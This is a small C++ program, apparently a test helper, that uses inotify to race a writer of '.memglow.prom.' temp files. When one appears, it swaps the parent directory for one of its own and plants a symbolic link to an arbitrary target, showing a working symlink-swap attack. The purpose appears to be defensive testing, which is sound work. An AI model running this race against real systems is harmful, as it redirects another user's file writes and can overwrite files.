// SPDX-License-Identifier: ISC
/*
 * swapnames PARENT NAME TARGET: what another user who owns PARENT can do to
 * a writer in PARENT/NAME.  Once it watches PARENT/NAME it prints
 * "watching"; at the first file made in it whose name starts with
 * ".memglow.prom.", it moves PARENT/NAME to PARENT/NAME.moved, makes a
 * folder of its own as PARENT/NAME, with a symbolic link of that file's
 * name to TARGET in it, prints "swapped" and exits 0.  Exits 1 on an error.
 */
#include <climits>
#include <cstdio>
#include <cstring>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	char folder[PATH_MAX], moved[PATH_MAX], link[PATH_MAX + NAME_MAX + 2];
	snprintf(folder, sizeof folder, "%s/%s", argv[1], argv[2]);
	snprintf(moved, sizeof moved, "%s/%s.moved", argv[1], argv[2]);
	const int fd = inotify_init();
	if (fd < 0 || inotify_add_watch(fd, folder, IN_CREATE) < 0) {
		perror(folder);
		return 1;
	}
	puts("watching");
	fflush(stdout);
	alignas(inotify_event) char events[sizeof(inotify_event) + NAME_MAX + 1];
	for (;;) {
		const ssize_t n = read(fd, events, sizeof events);
		if (n <= 0) {
			perror("read");
			return 1;
		}
		for (const char *p = events; p < events + n;) {
			const inotify_event *e = reinterpret_cast<const inotify_event *>(p);
			p += sizeof *e + e->len;
			if (e->len == 0 || strncmp(e->name, ".memglow.prom.", 14) != 0)
				continue;
			snprintf(link, sizeof link, "%s/%s", folder, e->name);
			if (rename(folder, moved) != 0 || mkdir(folder, 0755) != 0 || symlink(argv[3], link) != 0) {
				perror(folder);
				return 1;
			}
			puts("swapped");
			return 0;
		}
	}
}
